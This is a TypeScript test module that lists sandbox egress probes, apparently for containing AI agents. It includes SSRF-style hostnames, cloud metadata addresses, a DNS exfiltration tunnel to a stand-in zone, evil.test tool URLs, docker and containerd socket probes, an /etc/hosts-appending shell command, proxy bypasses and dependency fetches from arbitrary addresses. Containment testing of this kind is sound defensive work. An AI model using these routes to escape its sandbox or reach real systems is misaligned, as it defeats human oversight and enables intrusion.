import { BANK_ROWS, absolute, connect, CURL, everywhere } from './bank-rows.ts';
import { clientHello, http2Request, type LaneForms, type Probe, type Row } from './row.ts';
import { HOST_SOCKET, NAMESPACE_PORT, NAMESPACE_SOCKET, RESOLVER } from './world.ts';

/** Where the neighbour of a sandbox listens, in a sandbox of its own. */
export const NEIGHBOUR_PORT = 5302;
export const NEIGHBOUR_SOCKET = '\0assay-egress-neighbour';

const bracket = (host: string): string => (host.includes(':') ? `[${host}]` : host);
const curl = (...words: string[]): Probe => ({ kind: 'run', argv: [...CURL, ...words] });
const PORTS = [22, 53, 80, 443, 2375, 8666];
const NAMES = [
  'localhost.',
  'LOCALHOST',
  '127.0.0.1.',
  '0',
  '0.0.0.0',
  '[::]',
  'allowed.test@127.0.0.1',
  'allowed.test:80@127.0.0.1',
  '127.0.0.1%2f.allowed.test',
  '127.0.0.1\\.allowed.test',
  'xn--a-.evil.test',
  'ⓔvil.test',
  '017700000001',
  '::ffff:127.0.0.1',
  '127.0.0.1#.allowed.test',
  'a..test',
  `${'a'.repeat(64)}.test`,
  `${'a.'.repeat(140)}test`,
];
/** Hosted tools that the service itself would run, one a request. */
const HOSTED: Array<[string, object]> = [
  ...['web_search_20250305', 'web_fetch_20250910', 'code_execution_20250522'].map((type): [string, object] => [
    '/v1/messages',
    { tools: [{ type, name: type.replace(/_\d+$/, '') }] },
  ]),
  ['/v1/messages', { mcp_servers: [{ type: 'url', url: 'http://evil.test/', name: 'x' }] }],
  ...[
    'web_search',
    'web_search_preview',
    'code_interpreter',
    'file_search',
    'image_generation',
    'computer_use_preview',
  ].map((type): [string, object] => ['/v1/responses', { tools: [{ type }] }]),
  ['/v1/responses', { tools: [{ type: 'mcp', server_label: 'x', server_url: 'http://evil.test/' }] }],
  ['/v1/chat/completions', { web_search_options: {} }],
  ...['googleSearch', 'urlContext', 'codeExecution'].map((name): [string, object] => [
    '/v1beta/models/m-1:generateContent',
    { tools: [{ [name]: {} }] },
  ]),
];
/** Requests that make the service fetch a URL. */
const FETCHED = (url: string): Array<[string, object]> => [
  ['/v1/chat/completions', { messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url } }] }] }],
  ['/v1/responses', { input: [{ type: 'message', role: 'user', content: [{ type: 'input_image', image_url: url }] }] }],
  ['/v1/responses', { input: [{ type: 'message', role: 'user', content: [{ type: 'input_file', file_url: url }] }] }],
  ['/v1/messages', { messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url } }] }] }],
  ['/v1/messages', { messages: [{ role: 'user', content: [{ type: 'document', source: { type: 'url', url } }] }] }],
  [
    '/v1beta/models/m-1:generateContent',
    { contents: [{ role: 'user', parts: [{ fileData: { fileUri: url, mimeType: 'text/html' } }] }] },
  ],
];
const BODIES: Record<string, object> = {
  '/v1/messages': { model: 'm-1', max_tokens: 10, messages: [{ role: 'user', content: 'x' }] },
  '/v1/responses': { model: 'm-1', input: 'x' },
  '/v1/chat/completions': { model: 'm-1', messages: [{ role: 'user', content: 'x' }] },
  '/v1beta/models/m-1:generateContent': { contents: [{ role: 'user', parts: [{ text: 'x' }] }] },
};

function post({ headers }: LaneForms, path: string, more: object, tag: string): string {
  const body = JSON.stringify({ ...BODIES[path], ...more });
  return `POST ${path} HTTP/1.1\r\nHost: lane\r\n${headers}X-Tag: ${tag}\r\nConnection: close\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;
}

const get = (path: string, tag: string): string =>
  `GET ${path} HTTP/1.1\r\nHost: lane\r\nX-Tag: ${tag}\r\nConnection: close\r\n\r\n`;

/**
 * Prints every family and type of socket that can be had, but those that a program needs: 1, 2, 10 and, for routes, 16.
 */
const FAMILIES =
  'for my $f (0, 3 .. 9, 11 .. 63) { for my $t (1, 2, 3, 5) { print "family $f type $t\\n" if ($f != 16 || $t == 1) && socket my $s, $f, $t, 0 } } for my $f (2, 10) { for my $p (1, 58, 255) { print "raw $f $p\\n" if socket my $s, $f, 3, $p } } print "end\\n"';

/** Ways to an answer that is on the network, by their names in the catalogue of threats. */
export const THREAT_ROWS: readonly Row[] = [
  {
    id: 'C1',
    what: 'a code host by name, by IPv4, by IPv6',
    direct: (tag, place) => [
      ...everywhere(place, tag),
      { kind: 'tcp', host: `${tag}.code.test`, port: place.port, say: tag },
      { kind: 'lookup', name: `raw.${tag}.code.test` },
      ...place.world.addresses.map((host) => curl(`http://${bracket(host)}:${place.port}/${tag}.patch`)),
    ],
  },
  {
    id: 'C2',
    what: 'the fixed release: its file is 404, its page stops at T0',
    only: 'packages',
    control: 'own',
    lane: (_, tag) =>
      [
        '/packages/demo/demo-2.0-py3-none-any.whl',
        '/files/demo-2.0-py3-none-any.whl',
        '/simple/demo/demo-2.0-py3-none-any.whl',
        '/pypi/demo/json',
      ].map((path) => get(path, tag)),
  },
  {
    id: 'C3',
    what: '200 mirrors, archives and content networks',
    direct: (tag) =>
      Array.from({ length: 200 }, (_, index): Probe => ({ kind: 'lookup', name: `mirror-${index}.${tag}.test` })),
  },
  {
    id: 'C4',
    what: 'forks and aliases of the target',
    only: 'packages',
    control: 'own',
    lane: (_, tag) =>
      ['target', 'Target', 'target-fork', 'target_fork', 'TARGET.fork'].map((name) => get(`/simple/${name}/`, tag)),
  },
  {
    id: 'C5',
    what: 'tools that the service would run',
    only: 'model',
    control: 'own',
    lane: (forms, tag) => HOSTED.map(([path, more]) => post(forms, path, more, tag)),
  },
  {
    id: 'C6',
    what: 'addresses that the service would fetch',
    only: 'model',
    control: 'own',
    lane: (forms, tag, { port }) =>
      FETCHED(`http://127.0.0.1:${port}/${tag}`).map(([path, more]) => post(forms, path, more, tag)),
  },
  {
    id: 'C7',
    what: 'tools of the harness outside of the box',
    control: 'own',
    elsewhere: 'egress-trial.test.ts: C7, C17',
  },
  {
    id: 'C8',
    what: 'around a list of hosts: --resolve, address with Host, resolver of its own, /etc/hosts',
    direct: (tag, { port }) => [
      curl('--resolve', `code.test:${port}:127.0.0.1`, `http://code.test:${port}/${tag}`),
      curl('-H', 'Host: code.test', `http://127.0.0.1:${port}/${tag}`),
      curl('--connect-to', `::127.0.0.1:${port}`, `http://code.test/${tag}`),
      { kind: 'lookup', name: `${tag}.test`, type: 'A', server: RESOLVER },
      { kind: 'run', argv: ['sh', '-c', `echo 127.0.0.1 ${tag} >> /etc/hosts`] },
    ],
  },
  {
    id: 'C9',
    what: 'CONNECT a, SNI and Host each of a, b, c',
    lane: (_, tag) =>
      ['a', 'b', 'c'].flatMap((name) =>
        ['a', 'b', 'c'].map((host) =>
          connect(
            'a.test:443',
            tag,
            name === host
              ? clientHello({ tag, name: `${name}.test` })
              : `${clientHello({ tag, name: `${name}.test` })}${http2Request(`${host}.test`)}`,
          ),
        ),
      ),
  },
  {
    id: 'C10',
    what: 'ports and gateways',
    lane: (_, tag, { gateway, port }) =>
      ['allowed.test', '127.0.0.1', bracket(gateway), 'host.docker.internal', '[::1]'].flatMap((host) =>
        [...PORTS, port].map((each) => connect(`${host}:${each}`, tag, tag)),
      ),
    direct: (tag, { gateway, port }) => [
      ...PORTS.map((each): Probe => ({ kind: 'tcp', host: 'host.docker.internal', port: each, say: tag })),
      { kind: 'tcp', host: gateway, port, say: tag },
    ],
  },
  {
    id: 'C11',
    what: 'names that parsers read differently',
    lane: (_, tag, { port }) =>
      NAMES.map((name) => Buffer.from(absolute(`http://${name}:${port}`, tag), 'utf8').toString('latin1')),
    direct: (tag, { port }) =>
      ['127.0.0.1\0.allowed.test', 'localhost\0.allowed.test', ...NAMES, '127.0.0.1\r\n.allowed.test'].map((host) => ({
        kind: 'tcp',
        host,
        port,
        say: tag,
      })),
  },
  {
    id: 'C12',
    what: 'a tunnel of names',
    direct: (tag) =>
      ['A', 'AAAA', 'TXT', 'MX', 'SRV', 'NS']
        .map((type): Probe => ({
          kind: 'lookup',
          name: `exfil-${Buffer.from(tag).toString('base64url')}.${tag}.zone.test`,
          type,
        }))
        .concat({ kind: 'lookup', name: `libc.${tag}.zone.test` }),
  },
  {
    id: 'C13',
    what: 'private targets and metadata, by address and by name',
    lane: (_, tag) =>
      ['169.254.169.254', '100.100.100.200', '10.0.0.1', '192.168.0.1', '[fd00:ec2::254]', `private-${tag}.test`].map(
        (host) => absolute(`http://${host}`, tag),
      ),
    direct: (tag) => [
      { kind: 'lookup', name: `private-${tag}.test` },
      ...['169.254.169.254', '100.100.100.200', 'fd00:ec2::254'].map((host): Probe => ({
        kind: 'tcp',
        host,
        port: 9,
        say: tag,
      })),
    ],
  },
  { id: 'C14', what: 'a service that redirects: 301, 302, 303, 307, 308', control: 'own' },
  {
    id: 'C15',
    what: 'other transports: families and types of sockets, UDP, ICMP, MPTCP, h2c, WebSocket',
    results: /^(?:E\w+|silent|exit 0 end\n)$/,
    direct: (tag, place) => [
      { kind: 'run', argv: ['/usr/bin/perl', '-e', FAMILIES] },
      ...place.world.addresses.map((host): Probe => ({ kind: 'udp', host, port: place.world.datagramPort, say: tag })),
    ],
  },
  {
    id: 'C16',
    what: 'local sockets: of the host, of another namespace, of another sandbox',
    direct: (tag, { world }) => [
      ...[
        world.abstract,
        world.path,
        HOST_SOCKET,
        NAMESPACE_SOCKET,
        NEIGHBOUR_SOCKET,
        '/run/docker.sock',
        '/var/run/docker.sock',
        '/run/containerd/containerd.sock',
        '/run/dbus/system_bus_socket',
        '/tmp/.X11-unix/X0',
        '\0/tmp/.X11-unix/X0',
      ].map((path): Probe => ({ kind: 'tcp', path, say: tag })),
      ...[NAMESPACE_PORT, NEIGHBOUR_PORT].map((port): Probe => ({ kind: 'tcp', host: '127.0.0.1', port, say: tag })),
    ],
  },
  {
    id: 'C17',
    what: 'network in the time before the agent',
    control: 'own',
    elsewhere: 'egress-trial.test.ts: C7, C17',
  },
  {
    id: 'C18',
    what: 'clients that read no variable; no variable in the sandbox or the verifier',
    direct: (tag, { port }) => [
      curl('--noproxy', '*', `http://127.0.0.1:${port}/${tag}`),
      { kind: 'run', argv: ['sh', '-c', 'env | grep -i _proxy'] },
    ],
    elsewhere: 'egress-trial.test.ts: C18',
  },
  {
    id: 'C19',
    what: 'dependencies by address',
    direct: (tag, { port }) => {
      const at = `http://127.0.0.1:${port}/${tag}`;
      const pip = (...words: string[]): Probe => ({
        kind: 'run',
        argv: [
          '/usr/bin/python3',
          '-m',
          'pip',
          '--disable-pip-version-check',
          'download',
          '--no-deps',
          '--retries',
          '0',
          '--timeout',
          '2',
          '-d',
          '/tmp/d',
          ...words,
        ],
        env: { PYTHONPATH: '/opt/pip', PIP_CONFIG_FILE: '/dev/null' },
      });
      const npm = (...words: string[]): Probe => ({
        kind: 'run',
        argv: [
          '/opt/node',
          '/opt/npm/bin/npm-cli.js',
          '--fetch-retries=0',
          '--fetch-timeout=2000',
          '--prefix',
          '/tmp/n',
          ...words,
        ],
      });
      return [
        pip(`git+${at}.git`),
        pip('--index-url', `${at}/simple/`, '--trusted-host', '127.0.0.1', 'demo'),
        pip(`demo @ ${at}/demo-1.0-py3-none-any.whl`),
        pip('--find-links', `${at}/`, '--no-index', 'demo'),
        npm('install', `git+${at}.git`),
        npm('install', `${at}.tgz`),
        npm(`--registry=${at}/`, 'view', 'demo'),
        { kind: 'run', argv: ['git', 'clone', '-q', `${at}.git`, '/tmp/clone'], env: { GIT_TERMINAL_PROMPT: '0' } },
        { kind: 'run', argv: ['git', 'ls-remote', `git://127.0.0.1:${port}/${tag}`] },
      ];
    },
  },
  {
    id: 'C20',
    what: 'files that were added to an old release later, and releases whose time is missing',
    only: 'packages',
    control: 'own',
    lane: (_, tag) =>
      [
        '/packages/demo/demo-1.0-cp311-cp311-linux_x86_64.whl',
        '/packages/demo/demo-0.9-py3-none-any.whl',
        '/simple/late/',
      ].map((path) => get(path, tag)),
  },
];

export const ROWS: readonly Row[] = [...BANK_ROWS, ...THREAT_ROWS];
